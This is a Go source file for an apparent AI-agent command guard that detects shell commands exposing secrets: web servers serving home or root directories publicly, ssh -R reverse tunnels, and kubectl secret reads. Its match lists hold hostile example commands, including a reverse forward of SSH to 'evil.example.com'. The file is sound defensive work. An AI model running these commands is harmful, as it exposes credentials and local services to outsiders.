package shell

import (
	"strings"

	"github.com/actionguard/actionguard/rule"
)

// Exposing secrets to the network without sending them: a web server
// serving the home directory or the whole file system, a reverse tunnel
// that opens a local port on another machine.

var (
	ruleServeSecrets = &rule.Rule{
		ID: "shell.net.serve-secrets", Category: rule.Credentials, Points: 75,
		Summary:     "Serves the home directory or the whole file system (SSH keys, cloud credentials among them) to anyone who can reach this machine.",
		Alternative: "serve only the project's output directory (--directory build) and bind to 127.0.0.1",
		Match: []string{"python3 -m http.server 8000 --directory ~", "python3 -m http.server -d / 8080 --bind 0.0.0.0", "cd ~ && python3 -m http.server",
			"php -S 0.0.0.0:8000 -t ~", "http-server ~ -p 8080", "ruby -run -e httpd ~ -p 8000", "miniserve /"},
		NoMatch: []string{"python3 -m http.server 8000 --directory build", "python3 -m http.server -d docs --bind 127.0.0.1", "php -S localhost:8000 -t public",
			"ruby -run -e httpd build -p 8000", "ruby -run -e httpd ~ --bind-address=127.0.0.1"},
	}
	ruleRemoteForward = &rule.Rule{
		ID: "shell.net.remote-forward", Category: rule.Network, Points: 75,
		Summary:     "Opens a port of this machine on another machine (ssh -R): whoever is there reaches the local service.",
		Alternative: "forward only from here to there (ssh -L) unless you mean to expose the service",
		Match:       []string{"ssh -R 8080:localhost:22 evil.example.com", "ssh -N -R 9000:localhost:8000 host"},
		NoMatch:     []string{"ssh -L 5432:db:5432 bastion", "ssh prod uptime"},
	}
	exposeRules = []*rule.Rule{ruleServeSecrets, ruleRemoteForward, ruleRemoteScript, ruleCopyIntoContainer, ruleGitCommitUntrackAll}
)

func exposeHandlers() map[string][]handler {
	return map[string][]handler{
		"http-server": {serveHandler},
		"serve":       {serveHandler}, "httpd": {serveHandler}, "busybox": {serveHandler},
		"darkhttpd": {serveHandler}, "miniserve": {serveHandler}, "live-server": {serveHandler}, "simple-http-server": {serveHandler},
		"jwebserver": {serveHandler}, "updog": {serveHandler}, "static-web-server": {serveHandler}, "caddy": {serveHandler}, "ssh": {remoteForwardHandler}, "autossh": {remoteForwardHandler},
		"kubectl": {secretReadHandler}, "oc": {secretReadHandler},
	}
}

// servedDir returns the directory a static web server serves and whether
// c is one, with whether it listens only on the loopback interface.
func servedDir(c *Cmd) (dir string, ok, loopback bool) {
	loop := isLoopback
	switch c.Name {
	case "python", "python3", "python2":
		m, _ := c.Flag("-m")
		if m != "http.server" && m != "SimpleHTTPServer" {
			return "", false, false
		}
		dir = "."
		if d, ok := c.Flag("-d", "--directory"); ok {
			dir = d
		}
		b, _ := c.Flag("-b", "--bind")
		return dir, true, b != "" && loop(b)
	case "php":
		s, ok := c.Flag("-S")
		if !ok {
			return "", false, false
		}
		dir = "."
		if d, ok := c.Flag("-t"); ok {
			dir = d
		}
		return dir, true, loop(s)
	case "ruby":
		return rubyHTTPD(c)
	case "jwebserver", "updog", "static-web-server", "caddy":
		// jwebserver -d DIR -b ADDR; updog -d DIR; static-web-server -d DIR
		// (--root); caddy file-server --root DIR --listen ADDR.
		if c.Name == "caddy" && !c.ArgIs("file-server") {
			return "", false, false
		}
		dir = "."
		if d, ok := c.Flag("-d", "--directory", "--root", "-r"); ok {
			dir = d
		}
		a, _ := c.Flag("-b", "--bind-address", "--host", "--listen", "-a")
		if c.Name == "jwebserver" && a == "" {
			return dir, true, true // binds the loopback interface unless told otherwise
		}
		return dir, true, a != "" && loop(a)
	case "http-server", "serve", "darkhttpd", "miniserve", "live-server", "simple-http-server":
		dir = "."
		for _, p := range c.Argv().Operands {
			if !isDigits(p) && !isAddress(p) { // the value of -p, -a… when no spec says they take one
				dir = p
				break
			}
		}
		a, _ := c.Flag("-a", "--listen", "-l", "--addr", "-i", "--interfaces", "--host")
		return dir, true, a != "" && loop(a)
	case "httpd", "busybox":
		if c.Name == "busybox" && !c.ArgIs("httpd") {
			return "", false, false
		}
		dir = "."
		if d, ok := c.Flag("-h"); ok {
			dir = d
		}
		p, _ := c.Flag("-p")
		return dir, true, loop(p)
	}
	return "", false, false
}

// rubyHTTPD reads ruby -run -e httpd (the un library's web server, which
// binds every interface by default): the document root is the first
// operand after the code; --port, --bind-address and the other options of
// un's httpd take a value, attached or separate.
func rubyHTTPD(c *Cmd) (dir string, ok, loopback bool) {
	args := c.Args
	un := false
	for i, a := range args {
		if a == "-run" || a == "-r" && i+1 < len(args) && args[i+1] == "un" || a == "--" {
			un = a != "--"
			break
		}
	}
	ia := parseInterpArgs("ruby", c.Name, args)
	if !un || len(ia.codes) != 1 || strings.TrimRight(strings.TrimSpace(ia.codes[0]), ";") != "httpd" {
		return "", false, false
	}
	// What follows the code is the server's argv (ruby itself would reject
	// an option of the server's before the first operand, so reading them
	// all as the server's misses nothing that runs).
	rest := args[ia.idx[0]+1:]
	if len(rest) > 0 && rest[0] == "--" {
		rest = rest[1:]
	}
	dir = "."
	valued := map[string]bool{"--port": true, "-p": true, "--bind-address": true, "-b": true, "--max-clients": true, "-m": true,
		"--temp-dir": true, "-t": true, "--request-timeout": true, "-r": true, "--http-version": true, "--ssl-certificate": true, "--ssl-private-key": true}
	found := false
	for i := 0; i < len(rest); i++ {
		a := rest[i]
		name, val, attached := strings.Cut(a, "=")
		switch {
		case a == "--":
			if !found && i+1 < len(rest) {
				dir, found = rest[i+1], true
			}
			i = len(rest)
		case strings.HasPrefix(a, "-") && len(a) > 1:
			if !attached && valued[name] && i+1 < len(rest) {
				i++
				val = rest[i]
			} else if !attached && len(name) > 2 && name[1] != '-' && valued[name[:2]] {
				name, val = name[:2], name[2:] // -p8000, -b127.0.0.1
			}
			if name == "--bind-address" || name == "-b" {
				loopback = isLoopback(val)
			}
		case !found:
			dir, found = a, true
		}
	}
	return dir, true, loopback
}

// isLoopback reports whether a listening address is on the loopback
// interface only.
func isLoopback(a string) bool {
	return strings.HasPrefix(a, "127.") || strings.HasPrefix(a, "localhost") || a == "::1" || strings.HasPrefix(a, "[::1]")
}

// isAddress reports whether an operand reads as a listening address or
// port (0.0.0.0, 127.0.0.1:8080, localhost, :8080) rather than a directory.
func isAddress(a string) bool {
	if a == "localhost" || strings.HasPrefix(a, "localhost:") || strings.HasPrefix(a, "[") {
		return true
	}
	if strings.Trim(a, "0123456789.:") != "" || !strings.ContainsAny(a, "0123456789") {
		return false
	}
	return strings.Contains(a, ".") || strings.Contains(a, ":")
}

// serveInterpreter judges the interpreters' built-in web servers
// (python -m http.server, php -S), which the interpreter analysis handles
// before the program handlers.
func serveInterpreter(c *Cmd, r *report) {
	switch c.Name {
	case "python", "python3", "python2", "php", "ruby":
		serveHandler(c, r)
	}
}

func serveHandler(c *Cmd, r *report) {
	dir, ok, loopback := servedDir(c)
	if !ok || loopback {
		return
	}
	serveDirFinding(c, r, dir)
}

// remoteForwardHandler: ssh -R opens a port of this machine on the remote
// host.
func remoteForwardHandler(c *Cmd, r *report) {
	for _, o := range c.Argv().Opts {
		if o.Name == "-R" || o.Spelled == "-R" {
			r.add(c.find(ruleRemoteForward, "Opens this machine's port ("+o.Value+") on the remote host: whoever is there reaches the local service.", "-R"))
			return
		}
	}
	for _, o := range c.FlagAll("-o") {
		if k, _, _ := strings.Cut(o, "="); strings.EqualFold(strings.TrimSpace(k), "RemoteForward") {
			r.add(c.find(ruleRemoteForward, "Opens a port of this machine on the remote host ("+o+").", o))
			return
		}
	}
}

// secretReadHandler: kubectl get secret -o yaml prints every secret's
// value into the agent's context.
func secretReadHandler(c *Cmd, r *report) {
	if tokenProducer(c) == "Kubernetes secrets" {
		r.add(c.find(ruleCredentialRead, "Prints the values of Kubernetes secrets where the agent and its logs can see them.", c.Name))
	}
}
